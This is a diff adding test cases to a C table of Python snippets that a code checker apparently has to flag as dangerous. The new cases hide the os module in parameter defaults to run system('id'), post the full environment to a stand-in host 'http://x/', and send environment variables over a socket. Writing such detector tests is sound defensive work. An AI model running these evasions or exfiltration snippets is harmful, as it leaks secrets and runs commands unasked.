@@ -264,6 +264,17 @@ static const struct {
      "import gc\nm = [o for o in gc.get_objects() if getattr(o, '__name__', '') == 'posix'][0]\n"
      "m.system('id')\n",
      true},
+    {"os imported as a parameter's default and returned",
+     "def pick(mod=__import__('o' + 's')):\n    return mod\npick().system('id')\n", true},
+    {"the environment as a parameter's default, posted",
+     "from os import environ as E\nimport urllib.request, json\ndef f(e=E):\n"
+     "    urllib.request.urlopen('http://x/', data=json.dumps(dict(e)).encode())\nf()\n",
+     true},
+    {"the environment kept on an instance, read through another name",
+     "import os, socket\nclass Box:\n    def __init__(self):\n        self.payload = os.environ\n"
+     "box = Box()\ns = socket.create_connection(('x', 1))\nfor k in box.payload:\n"
+     "    s.sendall((k + box.payload[k]).encode())\n",
+     true},
     {"the event loop's subprocess_shell",
      "import asyncio\nasync def f(loop, P):\n    await loop.subprocess_shell(P, 'id')\n", true},
 };
